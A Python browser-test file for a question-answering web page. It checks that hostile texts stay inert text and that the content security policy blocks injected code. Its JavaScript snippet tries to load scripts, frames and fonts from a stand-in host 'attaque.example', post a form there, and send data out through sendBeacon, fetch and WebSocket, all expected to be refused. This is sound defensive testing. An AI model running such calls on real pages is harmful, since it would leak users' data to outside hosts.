"""Texts that would do harm, wherever the page shows them, and the policy behind the escaping."""

from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from rag.types import AnswerSentence, Document, Section
from tests import browsing
from tests.browsing import NO_ANSWER, Tab, opened, served, watch
from tests.fakes_ui import FakeAssistant, cite, script
from tests.hostile import HOSTILE
from ui import strings
from ui.settings import PageSettings

pytestmark = pytest.mark.browser
browser = browsing.browser

QUESTION = " ".join(HOSTILE)
TEXTS = tuple(
    Document(
        id=f"corpus/{n}-{text}.md",
        sha256="2" * 64,
        title=text,
        text=f"Avant.\n\n{text}\n\nAprès.",
        sections=(Section(0, text),),
        metadata=(("intervenants", text), ("date", text), ("genre", text), (text, text)),
    )
    for n, text in enumerate(HOSTILE)
)
TRIMMED = [text.strip() for text in HOSTILE]

ATTEMPTS = """async (outside) => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    refused.push(event.effectiveDirective));
  const add = (name, properties) =>
    document.body.append(Object.assign(document.createElement(name), properties));
  add("img", { src: `${outside}a.png` });
  add("link", { rel: "stylesheet", href: `${outside}a.css` });
  add("script", { src: `${outside}a.js` });
  add("script", { textContent: "window.ran = true" });
  add("iframe", { src: outside });
  add("object", { data: outside });
  add("video", { src: `${outside}a.mp4` });
  add("form", { action: outside, method: "post", target: "nowhere" });
  document.querySelector("form:last-of-type").submit();
  document.body.setAttribute("onclick", "window.ran = true");
  document.body.click();
  new FontFace("a", `url(${outside}a.woff2)`).load().catch(() => 0);
  navigator.sendBeacon(outside, "mot");
  new EventSource(outside);
  try { new WebSocket(outside.replace("http", "ws")); } catch { /* refused at once */ }
  try { new Worker("data:text/javascript,0"); } catch { /* refused at once */ }
  await fetch(outside).catch(() => 0);
  await new Promise((end) => setTimeout(end, 300));
  return [window.ran ?? false, [...new Set(refused)].sort()];
}"""
OUTSIDE = "http://attaque.example/"


def hostile_assistant() -> FakeAssistant:
    """Return a fake whose texts, sentences, quotes and refusal are all hostile."""
    sentences = [
        AnswerSentence(text.text.split("\n\n")[1], supported=True, citations=(cited,))
        for n, text in enumerate(TEXTS, start=1)
        for cited in [cite(n, text, HOSTILE[n - 1])]
    ]
    unproved = AnswerSentence(QUESTION, supported=False)
    return FakeAssistant(
        {
            QUESTION: script(QUESTION, (*sentences, unproved)),
            **{text: script(text, (), text) for text in TRIMMED},
        },
        texts=TEXTS,
    )


def test_hostile_answers_run_nothing_and_reach_nobody(browser: Browser, tmp_path: Path) -> None:
    settings = PageSettings(feedback=tmp_path / "avis", replay=(QUESTION,))
    with served(hostile_assistant(), settings) as url, opened(browser, url) as tab:
        before = tab.active()
        tab.ask(QUESTION)
        expect(tab.current.locator(".phase.done")).to_be_visible()
        shown = tab.current.locator(".question").evaluate("one => one.textContent")
        assert shown == QUESTION
        assert tab.current.locator(".sentence bdi").all_text_contents() == TRIMMED
        assert tab.current.locator(".card .title bdi").all_text_contents() == list(HOSTILE)
        tab.current.get_by_text(strings.WHY).click()
        for number in tab.current.locator(".cite").all()[::8]:
            number.hover()
        tab.current.locator(".cite").first.click()
        assert tab.panel.locator(".source mark").all_text_contents() == list(HOSTILE)
        assert tab.panel.locator("h3 bdi").all_text_contents() == list(HOSTILE)
        for opener in (
            tab.panel.locator(".source").get_by_role("button", name=strings.WHOLE_TEXT).all()[::8]
        ):
            opener.click()
            expect(tab.panel.locator("#stretch-panel")).to_be_focused()
            assert tab.focus.evaluate("one => one.textContent") in HOSTILE
            tab.panel.get_by_role("button", name=strings.PANEL_BACK, exact=True).click()
        assert tab.active() == before
        with tab.page.expect_download() as download:
            tab.menu(strings.EXPORT_FORMATS["html"]).click()
        download.value.save_as(tmp_path / "page.html")
        look_at(tab, tmp_path / "page.html")


def look_at(tab: Tab, file: Path) -> None:
    """Open the page that was exported: the texts are but texts there, too."""
    page = tab.page.context.new_page()
    watch(tab, page)
    page.goto(file.as_uri())
    assert tab.outside == [file.as_uri()]
    tab.outside.clear()
    assert page.locator("mark").all_text_contents() == TRIMMED
    assert page.evaluate(browsing.ACTIVE) == []
    page.close()


def test_hostile_questions_and_refusals_are_shown_as_they_are(browser: Browser) -> None:
    with (
        served(hostile_assistant(), PageSettings(examples=HOSTILE)) as url,
        opened(browser, url) as tab,
    ):
        before = tab.active()
        tab.page.locator(".known summary").click()
        assert tab.page.locator(".known .link").all_text_contents() == list(HOSTILE)
        assert tab.page.locator(".example").all_text_contents() == list(HOSTILE)
        for n, text in enumerate(TRIMMED, start=1):
            tab.box.fill(text)
            tab.page.get_by_role("button", name=strings.ASK).click()
            expect(tab.page.locator(".exchange")).to_have_count(n)
            tab.says(NO_ANSWER)
        thread = tab.page.locator(".exchange")
        assert thread.locator(".question").all_text_contents() == TRIMMED
        assert thread.locator(".message").all_text_contents() == TRIMMED
        assert tab.active() == before


def test_hostile_texts_are_listed_chosen_and_read_as_they_are(browser: Browser) -> None:
    with served(hostile_assistant()) as url, opened(browser, url) as tab:
        before = tab.active()
        tab.page.locator("#scope > .label-wrap").click()
        for facet in strings.FACETS[:3]:  # none of the texts has a year
            tab.page.get_by_label(facet, exact=True).click()
            tab.page.get_by_role("option").first.click()
        expect(tab.page.locator("#scope .token")).to_have_count(3)
        assert tab.active() == before
        tab.tab(strings.TAB_CORPUS)
        reading = tab.page.locator("#corpus-reading")
        for text, opener in zip(HOSTILE, tab.page.locator("#catalogue .link").all(), strict=True):
            opener.click()
            expect(reading.get_by_role("heading", level=2)).to_have_text(" ".join(text.split()))
        tab.page.get_by_label(strings.SEARCH_LABEL).fill(HOSTILE[0])
        expect(tab.page.locator("#catalogue")).not_to_contain_text(HOSTILE[7])
        assert tab.active() == before


def test_the_policy_alone_keeps_a_script_from_running_or_reaching_out(browser: Browser) -> None:
    with served(hostile_assistant()) as url, opened(browser, url) as tab:
        failures: list[str | None] = []
        tab.page.on("requestfailed", lambda request: failures.append(request.failure))
        ran, refused = tab.page.evaluate(ATTEMPTS, OUTSIDE)
        assert not ran
        assert refused == [
            "connect-src",
            "font-src",
            "form-action",
            "frame-src",
            "img-src",
            "media-src",
            "object-src",
            "script-src-attr",
            "script-src-elem",
            "style-src-elem",
            "worker-src",
        ]
        assert set(failures) <= {"csp"}, tab.outside
        tab.outside.clear()
        tab.errors.clear()
